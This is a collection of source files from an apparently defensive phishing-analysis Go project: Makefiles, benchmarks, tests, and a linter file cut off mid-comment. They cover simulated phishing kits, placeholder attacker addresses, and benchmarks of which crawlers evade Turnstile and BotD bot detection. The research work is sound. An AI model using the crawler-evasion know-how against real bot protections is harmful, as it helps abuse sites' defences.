GO ?= go

.PHONY: check build vet test race bench

# check is the repository's quality gate (DESIGN.md §7): compile, vet,
# the full test suite under the race detector, and one pass of the
# pipeline-throughput benchmarks (serial + worker pool).
check: build vet race bench

build:
	$(GO) build ./...

vet:
	$(GO) vet ./...

test:
	$(GO) test ./...

race:
	$(GO) test -race ./...

bench:
	$(GO) test -run='^$$' -bench=BenchmarkPipelineThroughput -benchtime=1x .
