GO ?= go

# Benchmark-trajectory knobs: the full suite runs BENCHCOUNT times per
# benchmark so BENCH_$(PR).json carries mean/min/max per metric.
BENCHTIME ?= 0.2s
BENCHCOUNT ?= 5
PR ?= 10

.PHONY: check build vet lint lint-sarif lint-test test race bench bench-scale bench-serve benchquick tracecheck triagecheck servecheck

# check is the repository's quality gate (DESIGN.md §7): compile, vet, the
# cblint invariant linter in baseline and SARIF modes plus its own test
# suite under the race detector (DESIGN.md §9, §13), the full test suite
# (plain and under the race detector — the race run includes the
# workers-1-vs-8 determinism tests and the concurrent-census test), one pass
# of the pipeline-throughput benchmarks (serial + worker pool), the trace
# golden check (DESIGN.md §10), the triage-index golden gate (DESIGN.md
# §14), and the ingest replay-determinism gate (DESIGN.md §15).
check: build vet lint lint-sarif lint-test test race benchquick tracecheck triagecheck servecheck

build:
	$(GO) build ./...

vet:
	$(GO) vet ./...

# lint runs cblint, the stdlib-only invariant linter (see `go run
# ./cmd/cblint -list` and DESIGN.md §9, §13), against the committed baseline:
# findings recorded in lint.baseline.json are accepted debt, any NEW finding
# fails the run. The committed baseline is empty — the repo is clean — so in
# practice every finding fails; regenerate after deliberate acceptance with
#   go run ./cmd/cblint -write-baseline lint.baseline.json ./...
lint:
	$(GO) run ./cmd/cblint -baseline lint.baseline.json ./...

# lint-sarif writes the findings as SARIF 2.1.0 for CI annotation.
lint-sarif:
	$(GO) run ./cmd/cblint -baseline lint.baseline.json -sarif cblint.sarif ./...

# lint-test runs the analyzer suite's own tests (fixtures, facts engine,
# driver) under the race detector — the linter is concurrent (parallel
# per-package analysis over a shared facts engine), so its tests race-gate
# the engine's locking.
lint-test:
	$(GO) test -race ./internal/lint/... ./cmd/cblint/...

test:
	$(GO) test ./...

race:
	$(GO) test -race ./...

# benchquick is the smoke-level benchmark pass used by check.
benchquick:
	$(GO) test -run='^$$' -bench=BenchmarkPipelineThroughput -benchtime=1x .

# tracecheck replays the example corpus with tracing and 10% fault injection
# on, and diffs both exports against the committed goldens
# (testdata/tracecheck.golden.*): the executable proof that span timelines,
# metrics, and the seeded fault/retry schedule are byte-reproducible.
# Regenerate the goldens by running the same command against testdata/.
tracecheck:
	@tmp=$$(mktemp -d) && \
	$(GO) run ./cmd/crawlerbox -n 8 -workers 4 -faults 0.1 \
		-trace $$tmp/trace.jsonl -metrics $$tmp/metrics.prom > /dev/null && \
	diff -u testdata/tracecheck.golden.jsonl $$tmp/trace.jsonl && \
	diff -u testdata/tracecheck.golden.prom $$tmp/metrics.prom && \
	rm -rf $$tmp && echo "tracecheck: trace and metrics match goldens"

# triagecheck is the triage-index golden gate (DESIGN.md §14). It proves
# three byte-identity contracts in one pass: (1) replaying the example
# fault-injected corpus into a fresh -tracestore segment reproduces the
# committed fixture store byte-for-byte; (2) compacting the fixture through
# obsreport -compact reproduces it byte-for-byte (build-vs-compact); and
# (3) the canned obsreport renders — stats, inverted-index queries,
# analyst checklists, crawl-free re-adjudications — match the committed
# golden text. Regenerate after deliberate format changes with the same
# commands against testdata/.
triagecheck:
	@tmp=$$(mktemp -d) && \
	$(GO) run ./cmd/crawlerbox -n 8 -workers 4 -faults 0.1 \
		-tracestore $$tmp/fresh.tstore > /dev/null && \
	cmp testdata/triagecheck.store $$tmp/fresh.tstore && \
	$(GO) run ./cmd/obsreport -compact $$tmp/compacted.tstore testdata/triagecheck.store > /dev/null && \
	cmp testdata/triagecheck.store $$tmp/compacted.tstore && \
	{ $(GO) run ./cmd/obsreport -store testdata/triagecheck.store -stats && \
	  $(GO) run ./cmd/obsreport -store testdata/triagecheck.store -q "outcome=error-page errkind=network" && \
	  $(GO) run ./cmd/obsreport -store testdata/triagecheck.store -q "domain=captcha-wall.example" && \
	  $(GO) run ./cmd/obsreport -store testdata/triagecheck.store -q "adjudicable=false limit=3" && \
	  $(GO) run ./cmd/obsreport -store testdata/triagecheck.store -checklist 2 && \
	  $(GO) run ./cmd/obsreport -store testdata/triagecheck.store -checklist 6 && \
	  $(GO) run ./cmd/obsreport -store testdata/triagecheck.store -adjudicate 1 && \
	  $(GO) run ./cmd/obsreport -store testdata/triagecheck.store -adjudicate 4 ; } > $$tmp/triage.txt && \
	diff -u testdata/triagecheck.golden.txt $$tmp/triage.txt && \
	rm -rf $$tmp && echo "triagecheck: triage index, compaction, and renders match goldens"

# servecheck is the continuous-ingest golden gate (DESIGN.md §15): record
# the example corpus into a canned ingest log, replay it through the daemon
# pipeline at workers 1 and 8, and require byte-identical verdict streams
# and counter lines — the executable proof that the sharded verdict cache's
# hit/miss decisions, provenance labels, and counters are
# schedule-independent. The grep pins that the gate exercises the cache (27
# duplicate landing URLs in this corpus), not just the empty-cache path.
servecheck:
	@tmp=$$(mktemp -d) && \
	$(GO) run ./cmd/crawlerboxd -record $$tmp/canned.ingestlog -seed 7 -scale 0.1 > /dev/null && \
	$(GO) run ./cmd/crawlerboxd -replay $$tmp/canned.ingestlog -seed 7 -scale 0.1 \
		-workers 1 -out $$tmp/stream1.jsonl > $$tmp/counters1.txt && \
	$(GO) run ./cmd/crawlerboxd -replay $$tmp/canned.ingestlog -seed 7 -scale 0.1 \
		-workers 8 -out $$tmp/stream8.jsonl > $$tmp/counters8.txt && \
	cmp $$tmp/stream1.jsonl $$tmp/stream8.jsonl && \
	diff -u $$tmp/counters1.txt $$tmp/counters8.txt && \
	grep -q '"cache_hits":27' $$tmp/counters1.txt && \
	rm -rf $$tmp && echo "servecheck: replay streams byte-identical at workers 1 and 8 (27 cache hits)"

# bench-serve runs the continuous-ingest benchmarks (replay throughput over
# the canned corpus log, verdict-cache hit path) and folds the results into
# BENCH_$(PR).json alongside the regular suite; run make bench first so the
# merge has a document to augment.
bench-serve:
	$(GO) test -run='^$$' -bench='BenchmarkIngestThroughput|BenchmarkVerdictCacheHit' \
		-benchmem -benchtime=$(BENCHTIME) -count=$(BENCHCOUNT) ./internal/ingest \
		| $(GO) run ./cmd/benchjson -o BENCH_$(PR).json -merge BENCH_$(PR).json

# bench runs the full bench_test.go suite with allocation reporting and
# BENCHCOUNT repetitions, then distills the output into BENCH_$(PR).json —
# the perf trajectory future PRs regress-check against. An observed example
# run contributes its metrics dump (span counts, bytes observed, cloak
# verdicts) to the same JSON via benchjson -metrics.
bench:
	@tmp=$$(mktemp -d) && \
	$(GO) run ./cmd/crawlerbox -n 8 -workers 4 -metrics $$tmp/metrics.prom > /dev/null && \
	$(GO) test -run='^$$' -bench=. -benchmem -benchtime=$(BENCHTIME) -count=$(BENCHCOUNT) . \
		| $(GO) run ./cmd/benchjson -o BENCH_$(PR).json -metrics $$tmp/metrics.prom && \
	rm -rf $$tmp

# bench-scale runs the streamed-analysis scaling probe at n=1k/10k/100k
# (workers 1/4/8, evidence store armed) and folds the results into
# BENCH_$(PR).json alongside the regular suite: benchjson -merge carries the
# existing document's entries and overwrites only the re-measured ones. The
# 100k rungs take a minute or two each; run make bench first, then this.
bench-scale:
	CRAWLERBOX_BENCH_SCALE=1 $(GO) test -run='^$$' \
		-bench=BenchmarkAnalyzeThroughputAtN -benchtime=1x -count=1 -timeout=60m . \
		| $(GO) run ./cmd/benchjson -o BENCH_$(PR).json -merge BENCH_$(PR).json
