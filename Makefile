GO ?= go

# Benchmark-trajectory knobs: the full suite runs BENCHCOUNT times per
# benchmark so BENCH_$(PR).json carries mean/min/max per metric.
BENCHTIME ?= 0.2s
BENCHCOUNT ?= 5
PR ?= 2

.PHONY: check build vet lint test race bench benchquick

# check is the repository's quality gate (DESIGN.md §7): compile, vet, the
# cblint invariant linter (DESIGN.md §9), the full test suite (plain and
# under the race detector — the race run includes the workers-1-vs-8
# determinism tests and the concurrent-census test), and one pass of the
# pipeline-throughput benchmarks (serial + worker pool).
check: build vet lint test race benchquick

build:
	$(GO) build ./...

vet:
	$(GO) vet ./...

# lint runs cblint, the stdlib-only invariant linter (determinism, maprange,
# ctxflow, guarded — see `go run ./cmd/cblint -list` and DESIGN.md §9).
lint:
	$(GO) run ./cmd/cblint ./...

test:
	$(GO) test ./...

race:
	$(GO) test -race ./...

# benchquick is the smoke-level benchmark pass used by check.
benchquick:
	$(GO) test -run='^$$' -bench=BenchmarkPipelineThroughput -benchtime=1x .

# bench runs the full bench_test.go suite with allocation reporting and
# BENCHCOUNT repetitions, then distills the output into BENCH_$(PR).json —
# the perf trajectory future PRs regress-check against.
bench:
	$(GO) test -run='^$$' -bench=. -benchmem -benchtime=$(BENCHTIME) -count=$(BENCHCOUNT) . \
		| $(GO) run ./cmd/benchjson -o BENCH_$(PR).json
