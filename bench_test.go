package crawlerboxgo

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"sync"
	"testing"
	"time"

	"crawlerbox/internal/crawler"
	"crawlerbox/internal/crawlerbox"
	"crawlerbox/internal/dataset"
	"crawlerbox/internal/evstore"
	"crawlerbox/internal/imaging"
	"crawlerbox/internal/mime"
	"crawlerbox/internal/phishkit"
	"crawlerbox/internal/qrcode"
	"crawlerbox/internal/report"
	"crawlerbox/internal/tracestore"
	"crawlerbox/internal/urlx"
)

// The benchmark corpus is generated and analyzed once (a tenth-scale run,
// ~520 messages) and shared across every table/figure benchmark; each bench
// then re-times its own aggregation or workload.
var (
	_benchOnce sync.Once
	_benchRun  *report.Run
	_benchErr  error
)

func benchRun(b *testing.B) *report.Run {
	b.Helper()
	_benchOnce.Do(func() {
		c, err := dataset.Generate(dataset.Config{Seed: 42, Scale: 0.1})
		if err != nil {
			_benchErr = err
			return
		}
		_benchRun, _benchErr = report.Analyze(context.Background(), c)
	})
	if _benchErr != nil {
		b.Fatal(_benchErr)
	}
	return _benchRun
}

// BenchmarkTable1CrawlerAssessment regenerates Table I: the eight crawlers
// against BotD, Turnstile, and AnonWAF. The report is printed once.
func BenchmarkTable1CrawlerAssessment(b *testing.B) {
	var last *crawler.Assessment
	for i := 0; i < b.N; i++ {
		a, err := crawler.RunAssessment(context.Background())
		if err != nil {
			b.Fatal(err)
		}
		last = a
	}
	b.StopTimer()
	if last != nil {
		b.Log("\n" + report.RenderTable1(last))
	}
}

// BenchmarkTable2TLDDistribution regenerates Table II from the analyzed
// corpus's landing domains.
func BenchmarkTable2TLDDistribution(b *testing.B) {
	run := benchRun(b)
	b.ResetTimer()
	var rows []urlx.TLDCount
	for i := 0; i < b.N; i++ {
		rows = run.Table2()
	}
	b.StopTimer()
	if len(rows) > 0 {
		b.Log("\n" + run.RenderTable2())
	}
}

// BenchmarkFigure2MonthlyVolume regenerates Figure 2: monthly counts, the
// 2023 baseline comparison, and the paired t-tests.
func BenchmarkFigure2MonthlyVolume(b *testing.B) {
	run := benchRun(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := run.Figure2(); err != nil {
			b.Fatal(err)
		}
	}
	b.StopTimer()
	b.Log("\n" + run.RenderFigure2())
}

// BenchmarkFigure3DeploymentTimeline regenerates Figure 3: the
// registration-to-delivery and certificate-to-delivery histograms.
func BenchmarkFigure3DeploymentTimeline(b *testing.B) {
	run := benchRun(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := run.Figure3(); err != nil {
			b.Fatal(err)
		}
	}
	b.StopTimer()
	b.Log("\n" + run.RenderFigure3())
}

// BenchmarkDispositionBreakdown regenerates the Section V message
// disposition table.
func BenchmarkDispositionBreakdown(b *testing.B) {
	run := benchRun(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		_ = run.Disposition()
	}
	b.StopTimer()
	b.Log("\n" + run.RenderDisposition())
}

// BenchmarkSpearPhishClassification regenerates the Section V-A
// spear-phishing shares (73.3% spear, 29.8% hot-loading).
func BenchmarkSpearPhishClassification(b *testing.B) {
	run := benchRun(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		_ = run.Spear()
	}
	b.StopTimer()
	b.Log("\n" + run.RenderSpear())
}

// BenchmarkDNSQueryVolumes regenerates the Umbrella-style passive-DNS
// medians for single- vs multi-message landing domains.
func BenchmarkDNSQueryVolumes(b *testing.B) {
	run := benchRun(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		_ = run.DNSVolumes()
	}
}

// BenchmarkDomainSyntaxAnalysis regenerates the deceptive-syntax census
// (15.7% of landing domains in the paper).
func BenchmarkDomainSyntaxAnalysis(b *testing.B) {
	run := benchRun(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		_ = run.DomainSyntax()
	}
}

// BenchmarkCloakingPrevalence regenerates the Section V-C evasion census.
func BenchmarkCloakingPrevalence(b *testing.B) {
	run := benchRun(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		_ = run.CloakPrevalence()
	}
	b.StopTimer()
	b.Log("\n" + run.RenderCloaks())
}

// BenchmarkChallengeServiceShare regenerates the Turnstile (74.4%) and
// reCAPTCHA (24.8%) shares over credential-harvesting messages.
func BenchmarkChallengeServiceShare(b *testing.B) {
	run := benchRun(b)
	b.ResetTimer()
	var ts, rc float64
	for i := 0; i < b.N; i++ {
		ts, rc = run.TurnstileShare()
	}
	b.StopTimer()
	b.Logf("Turnstile %.1f%% / reCAPTCHA %.1f%% (paper: 74.4%% / 24.8%%)", ts, rc)
}

// BenchmarkPipelineThroughput measures end-to-end message analysis
// (Figure 1's pipeline): parse + crawl + classify + enrich per message.
func BenchmarkPipelineThroughput(b *testing.B) {
	world := NewWorld(time.Date(2024, 1, 1, 0, 0, 0, 0, time.UTC))
	pipe, err := world.NewPipeline(context.Background())
	if err != nil {
		b.Fatal(err)
	}
	raw := mime.NewBuilder("attacker@phish.ru", "victim@corp.example",
		"Action required", time.Date(2024, 3, 1, 10, 0, 0, 0, time.UTC)).
		Text("Please verify your account at https://nonexistent-host.example/login").
		Build()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := pipe.AnalyzeMessage(raw); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkPipelineThroughputParallel measures corpus-batch analysis through
// AnalyzeCorpus at workers=1 (the serial baseline) and workers=8. The
// sub-benchmarks analyze the same 128-message slice of a tenth-scale corpus;
// their msgs/s delta is the worker pool's speedup (recorded in
// EXPERIMENTS.md — on a single-CPU host the delta measures pool overhead
// instead, and must stay near parity).
func BenchmarkPipelineThroughputParallel(b *testing.B) {
	c, err := dataset.Generate(dataset.Config{Seed: 42, Scale: 0.1})
	if err != nil {
		b.Fatal(err)
	}
	pipe := crawlerbox.New(c.Net, c.Registry)
	for _, br := range phishkit.StudyBrands {
		if err := pipe.AddReference(context.Background(), br.Name, c.BrandURLs[br.Name]); err != nil {
			b.Fatal(err)
		}
	}
	msgs := c.Messages
	if len(msgs) > 128 {
		msgs = msgs[:128]
	}
	specs := make([]crawlerbox.MessageSpec, len(msgs))
	for i, m := range msgs {
		specs[i] = crawlerbox.MessageSpec{Raw: m.Raw, ID: int64(i + 1), At: m.Delivered.Add(2 * time.Hour)}
	}
	for _, workers := range []int{1, 8} {
		b.Run(fmt.Sprintf("workers-%d", workers), func(b *testing.B) {
			for i := 0; i < b.N; i++ {
				for _, res := range pipe.AnalyzeCorpus(context.Background(), specs, workers) {
					if res.Err != nil {
						b.Fatal(res.Err)
					}
				}
			}
			b.ReportMetric(float64(b.N*len(specs))/b.Elapsed().Seconds(), "msgs/s")
		})
	}
}

// BenchmarkFaultyQRBug measures the faulty-QR extraction divergence: encode
// a junk-prefixed payload, render, decode, and compare strict vs lenient
// extraction (the Section V-C1 filter bug).
func BenchmarkFaultyQRBug(b *testing.B) {
	payload := "xxx https://evil-site.com/dhfYWfH"
	var strictHits, lenientHits int
	for i := 0; i < b.N; i++ {
		m, err := qrcode.Encode(payload, qrcode.ECMedium)
		if err != nil {
			b.Fatal(err)
		}
		img, err := qrcode.Render(m, 4, 4)
		if err != nil {
			b.Fatal(err)
		}
		dec, err := qrcode.DecodeImage(img)
		if err != nil {
			b.Fatal(err)
		}
		if _, ok := urlx.ExtractStrictWhole(dec.Payload); ok {
			strictHits++
		}
		if len(urlx.ExtractLenient(dec.Payload)) > 0 {
			lenientHits++
		}
	}
	b.StopTimer()
	if strictHits != 0 || lenientHits != b.N {
		b.Fatalf("strict=%d lenient=%d of %d: the divergence must hold", strictHits, lenientHits, b.N)
	}
}

// BenchmarkHotLinkedResources measures referral-trail detection over the
// analyzed corpus (the Section V-A early-warning signal), reading the
// exchange ledger through the zero-copy EachTraffic view instead of the
// copying Traffic() snapshot.
func BenchmarkHotLinkedResources(b *testing.B) {
	run := benchRun(b)
	b.ResetTimer()
	var count int
	for i := 0; i < b.N; i++ {
		count = run.HotLoadReferrals()
	}
	b.StopTimer()
	b.Logf("hot-load referral requests observed: %d", count)
}

// BenchmarkNonTargetedBrands regenerates the Section V-B non-targeted brand
// breakdown from corpus ground truth.
func BenchmarkNonTargetedBrands(b *testing.B) {
	run := benchRun(b)
	b.ResetTimer()
	var byBrand map[string]int
	for i := 0; i < b.N; i++ {
		byBrand = map[string]int{}
		for _, d := range run.Corpus.Domains {
			if !d.Spear {
				byBrand[d.Brand]++
			}
		}
	}
	b.StopTimer()
	b.Logf("non-targeted brand domains: %v", byBrand)
}

// BenchmarkAblationCrawlerChoice compares pipeline effectiveness across
// crawler stacks: the same gated phishing site crawled by a basic headless
// stack vs NotABot. The design point the paper's Table I motivates.
func BenchmarkAblationCrawlerChoice(b *testing.B) {
	for _, kind := range []crawler.Kind{crawler.PuppeteerStealth, crawler.NotABot} {
		b.Run(kind.String(), func(b *testing.B) {
			for i := 0; i < b.N; i++ {
				cell, err := crawler.RunAssessmentCell(context.Background(), kind, crawler.DetectorTurnstile, int64(i))
				if err != nil {
					b.Fatal(err)
				}
				_ = cell
			}
		})
	}
}

// BenchmarkPerceptualHashing measures the screenshot classifier primitives.
func BenchmarkPerceptualHashing(b *testing.B) {
	img := imaging.MustNew(256, 192, imaging.White)
	img.FillRect(0, 0, 256, 28, imaging.RGB{R: 20, G: 60, B: 140})
	imaging.DrawText(img, 8, 10, "ACME TRAVELTECH", imaging.White)
	b.Run("pHash", func(b *testing.B) {
		for i := 0; i < b.N; i++ {
			_ = imaging.PHash(img)
		}
	})
	b.Run("dHash", func(b *testing.B) {
		for i := 0; i < b.N; i++ {
			_ = imaging.DHash(img)
		}
	})
}

// BenchmarkCorpusGeneration measures tenth-scale corpus generation.
func BenchmarkCorpusGeneration(b *testing.B) {
	for i := 0; i < b.N; i++ {
		if _, err := dataset.Generate(dataset.Config{Seed: int64(i + 1), Scale: 0.1}); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkAnalyzeThroughputAtN is the million-message-scale probe: it
// streams an n-message corpus through Analyze with the on-disk evidence
// store armed, reporting throughput (msgs/s) and the live heap the
// analysis leaves resident (live-heap-MB: HeapAlloc after back-to-back
// forced GCs, above a post-generation baseline measured the same way).
// Quiescent live heap is the right memory metric here, for two reasons.
// First, sampling raw HeapAlloc mid-run measures collector slack — the
// heap rides up to GOGC percent above the live set, and since the live
// set includes the O(corpus) hosted world, the slack grows with n no
// matter what the analysis retains. Second, everything the analysis
// keeps resident (spill counters, census shards, DNS aggregates) only
// grows during the run, so the quiescent end-state IS its high-water
// mark; what it excludes is the in-flight transient, bounded by
// workers × one message, not by n. With streaming + shard folds +
// evidence spilling the metric stays near-flat from n=1k to n=100k
// while the in-RAM path grows linearly. Only n=1000 runs by default;
// set CRAWLERBOX_BENCH_SCALE=1 (make bench-scale) for the 10k/100k
// rungs.
// settledHeap returns HeapAlloc after two back-to-back collections, i.e.
// the truly live heap with the first cycle's floating garbage reclaimed.
func settledHeap() uint64 {
	runtime.GC()
	runtime.GC()
	var ms runtime.MemStats
	runtime.ReadMemStats(&ms)
	return ms.HeapAlloc
}

// BenchmarkTraceStoreBuild measures triage-index construction: a streamed
// tenth-scale corpus analyzed with the trace store armed, every span tree
// and verdict row finalized into one canonical segment. Reported alongside
// throughput: the finalized segment's size.
func BenchmarkTraceStoreBuild(b *testing.B) {
	dir := b.TempDir()
	analyzed := 0
	var segBytes int64
	for i := 0; i < b.N; i++ {
		b.StopTimer()
		c, err := dataset.Stream(dataset.Config{Seed: 42, Scale: 0.1})
		if err != nil {
			b.Fatal(err)
		}
		path := filepath.Join(dir, fmt.Sprintf("seg-%d.tstore", i))
		w, err := tracestore.Create(path)
		if err != nil {
			b.Fatal(err)
		}
		b.StartTimer()
		run, err := report.Analyze(context.Background(), c,
			report.WithWorkers(4), report.WithTraceStore(w))
		b.StopTimer()
		if err != nil {
			b.Fatal(err)
		}
		if run.Errors != 0 {
			b.Fatalf("%d analysis errors", run.Errors)
		}
		st, err := os.Stat(path)
		if err != nil {
			b.Fatal(err)
		}
		segBytes = st.Size()
		analyzed += c.Len()
		b.StartTimer()
	}
	b.StopTimer()
	b.ReportMetric(float64(analyzed)/b.Elapsed().Seconds(), "msgs/s")
	b.ReportMetric(float64(segBytes), "segment-bytes")
}

// BenchmarkTraceStoreQuery measures triage queries over a built segment:
// each iteration runs the canned conjunctive queries (outcome, domain ∧
// stage, cloak) plus one checklist render and one re-adjudication — the
// analyst's inner loop, all served from the inverted index with no
// pipeline or crawl.
func BenchmarkTraceStoreQuery(b *testing.B) {
	path := filepath.Join(b.TempDir(), "seg.tstore")
	c, err := dataset.Stream(dataset.Config{Seed: 42, Scale: 0.1})
	if err != nil {
		b.Fatal(err)
	}
	w, err := tracestore.Create(path)
	if err != nil {
		b.Fatal(err)
	}
	if _, err := report.Analyze(context.Background(), c,
		report.WithWorkers(4), report.WithTraceStore(w)); err != nil {
		b.Fatal(err)
	}
	st, err := tracestore.Open(path)
	if err != nil {
		b.Fatal(err)
	}
	defer st.Close()
	queries := make([]tracestore.Query, 0, 3)
	for _, qs := range []string{
		"outcome=active-phishing",
		"outcome=error-page stage=classify",
		"cloak=turnstile limit=10",
	} {
		q, err := tracestore.ParseQuery(qs)
		if err != nil {
			b.Fatal(err)
		}
		queries = append(queries, q)
	}
	adjID := st.IDs()[0]
	b.ResetTimer()
	matched := 0
	for i := 0; i < b.N; i++ {
		for _, q := range queries {
			verdicts, err := st.Query(q)
			if err != nil {
				b.Fatal(err)
			}
			matched += len(verdicts)
		}
		if _, err := st.Checklist(adjID); err != nil {
			b.Fatal(err)
		}
		if _, err := st.Readjudicate(adjID); err != nil {
			b.Fatal(err)
		}
	}
	b.StopTimer()
	b.ReportMetric(float64(matched)/float64(b.N), "matches/op")
}

func BenchmarkAnalyzeThroughputAtN(b *testing.B) {
	sizes := []int{1000}
	if os.Getenv("CRAWLERBOX_BENCH_SCALE") != "" {
		sizes = append(sizes, 10000, 100000)
	}
	for _, n := range sizes {
		for _, workers := range []int{1, 4, 8} {
			b.Run(fmt.Sprintf("n-%d/workers-%d", n, workers), func(b *testing.B) {
				dir := b.TempDir()
				analyzed := 0
				peakMB := 0.0
				for i := 0; i < b.N; i++ {
					b.StopTimer()
					c, err := dataset.Stream(dataset.Config{
						Seed:  42,
						Scale: float64(n) / float64(dataset.TotalMessages),
					})
					if err != nil {
						b.Fatal(err)
					}
					store, err := evstore.Create(filepath.Join(dir, fmt.Sprintf("ev-%d.cbes", i)))
					if err != nil {
						b.Fatal(err)
					}
					// Baseline after generation: the corpus plan and the
					// hosted world are setup cost, not analysis footprint.
					// Two GCs settle the heap (the first cycle's floating
					// garbage dies in the second).
					base := settledHeap()
					b.StartTimer()
					run, err := report.Analyze(context.Background(), c,
						report.WithWorkers(workers), report.WithEvidenceStore(store))
					b.StopTimer()
					if err != nil {
						b.Fatal(err)
					}
					if run.Errors != 0 {
						b.Fatalf("%d analysis errors", run.Errors)
					}
					live := settledHeap()
					if cerr := store.Close(); cerr != nil {
						b.Fatal(cerr)
					}
					analyzed += c.Len()
					if d := float64(live-base) / (1 << 20); live > base && d > peakMB {
						peakMB = d
					}
					b.StartTimer()
				}
				b.StopTimer()
				b.ReportMetric(float64(analyzed)/b.Elapsed().Seconds(), "msgs/s")
				b.ReportMetric(peakMB, "live-heap-MB")
				// The flatness claim in per-message terms: resident bytes
				// per analyzed message, constant across corpus decades.
				b.ReportMetric(peakMB*(1<<20)/float64(n), "live-B/msg")
			})
		}
	}
}
