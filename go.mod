module crawlerbox

go 1.22
