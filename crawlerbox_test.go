package crawlerboxgo

import (
	"context"
	"testing"
	"time"

	"crawlerbox/internal/browser"
	"crawlerbox/internal/crawler"
	"crawlerbox/internal/crawlerbox"
	"crawlerbox/internal/mime"
	"crawlerbox/internal/phishkit"
	"crawlerbox/internal/webnet"
	"crawlerbox/internal/whois"
)

var _start = time.Date(2024, 2, 1, 9, 0, 0, 0, time.UTC)

func TestWorldConstruction(t *testing.T) {
	w := NewWorld(_start)
	if len(w.BrandLoginURLs) != 5 {
		t.Errorf("brand URLs = %d, want 5 protected companies", len(w.BrandLoginURLs))
	}
	if w.Turnstile == nil || w.ReCaptcha == nil || w.BotD == nil {
		t.Error("detector services missing")
	}
	if !w.Net.Clock.Now().Equal(_start) {
		t.Error("clock not at start time")
	}
}

func TestFacadeEndToEnd(t *testing.T) {
	w := NewWorld(_start)
	pipe, err := w.NewPipeline(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	site := phishkit.Deploy(w.Net, phishkit.SiteConfig{
		Host:      "payroute-billing.com",
		Brand:     phishkit.BrandPayRoute,
		Turnstile: w.Turnstile,
	})
	w.Registry.Register(whois.Record{
		Domain: "payroute-billing.com", Registrar: "NameCheap-Intl",
		Registered: _start.Add(-40 * 24 * time.Hour), Provenance: whois.ProvenanceFresh,
	})
	raw := mime.NewBuilder("billing@phish.ru", "user@corp.example", "Invoice hold", _start).
		Text("Your payment is on hold: " + site.LandingURL).Build()
	ma, err := pipe.AnalyzeMessage(raw)
	if err != nil {
		t.Fatal(err)
	}
	if ma.Outcome != crawlerbox.OutcomeActivePhish {
		t.Fatalf("outcome = %v", ma.Outcome)
	}
	if !ma.SpearPhish || ma.Brand != phishkit.BrandPayRoute.Name {
		t.Errorf("spear=%v brand=%q", ma.SpearPhish, ma.Brand)
	}
	if !ma.Cloaks.Turnstile {
		t.Error("Turnstile missing from census")
	}
}

func TestGenerateAndAnalyzeCorpusTiny(t *testing.T) {
	c, err := GenerateCorpus(3, 0.02)
	if err != nil {
		t.Fatal(err)
	}
	run, err := AnalyzeCorpus(c)
	if err != nil {
		t.Fatal(err)
	}
	if run.Errors != 0 {
		t.Errorf("analysis errors = %d", run.Errors)
	}
	rows := run.Disposition()
	var total int
	for _, r := range rows {
		total += r.Count
	}
	if total != len(c.Messages) {
		t.Errorf("disposition total = %d, messages = %d", total, len(c.Messages))
	}
}

func TestRunTable1Facade(t *testing.T) {
	a, err := RunTable1(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	if !a.PassesAll(crawler.NotABot) {
		t.Error("NotABot must pass every detector")
	}
	if a.PassesAll(crawler.Kangooroo) {
		t.Error("Kangooroo must be detected")
	}
}

// TestModularCrawlerComponent verifies the pipeline's crawler component is
// swappable — the modularity the paper emphasizes (integrating Nodriver or
// Selenium-Driverless as alternative components is its stated future work).
func TestModularCrawlerComponent(t *testing.T) {
	w := NewWorld(_start)
	pipe, err := w.NewPipeline(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	// Swap NotABot for a Nodriver-profile component.
	pipe.NewBrowser = func(seed int64) *browser.Browser {
		return crawler.NewHeadless(crawler.Nodriver, w.Net, webnet.IPMobile, seed, false).Browser
	}
	site := phishkit.Deploy(w.Net, phishkit.SiteConfig{
		Host:      "skybooker-login.dev",
		Brand:     phishkit.BrandSkyBooker,
		Turnstile: w.Turnstile,
	})
	raw := mime.NewBuilder("x@phish.ru", "user@corp.example", "Session expired", _start).
		Text("Re-authenticate: " + site.LandingURL).Build()
	ma, err := pipe.AnalyzeMessage(raw)
	if err != nil {
		t.Fatal(err)
	}
	if ma.Outcome != crawlerbox.OutcomeActivePhish {
		t.Errorf("Nodriver component should also defeat the gate; outcome = %v", ma.Outcome)
	}

	// A weak component (Puppeteer+stealth, headless) on the same site gets
	// stuck at the challenge — the ablation the Table I matrix motivates.
	pipe2, err := w.NewPipeline(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	pipe2.NewBrowser = func(seed int64) *browser.Browser {
		return crawler.NewHeadless(crawler.PuppeteerStealth, w.Net, webnet.IPMobile, seed, true).Browser
	}
	ma2, err := pipe2.AnalyzeMessage(raw)
	if err != nil {
		t.Fatal(err)
	}
	if ma2.Outcome == crawlerbox.OutcomeActivePhish {
		t.Error("headless stealth component should be blocked by Turnstile")
	}
}
