package lint

import (
	"fmt"
	"go/ast"
	"strings"
)

// Determinism forbids wall-clock reads and global math/rand calls in
// internal production code. The pipeline's byte-identical-at-any-worker-count
// guarantee holds only if time flows through webnet.Clock forks and
// randomness through explicitly seeded *rand.Rand streams; one stray
// time.Now() in a census path silently breaks reproducibility of the paper's
// tables. Sanctioned generator construction sites (seed injected by the
// caller) carry a "//cblint:ignore determinism <reason>" directive.
type Determinism struct{}

// forbiddenTimeFuncs are the package-level time functions that read or wait
// on the process wall clock. Pure constructors (time.Date, time.Unix) and
// parsers are fine — they are wall-clock-free.
var forbiddenTimeFuncs = map[string]bool{
	"Now":       true,
	"Since":     true,
	"Until":     true,
	"Sleep":     true,
	"After":     true,
	"Tick":      true,
	"NewTimer":  true,
	"NewTicker": true,
	"AfterFunc": true,
}

// randPackages are the global-generator packages. Every package-level call
// is flagged — including New/NewSource, because the analyzer cannot prove a
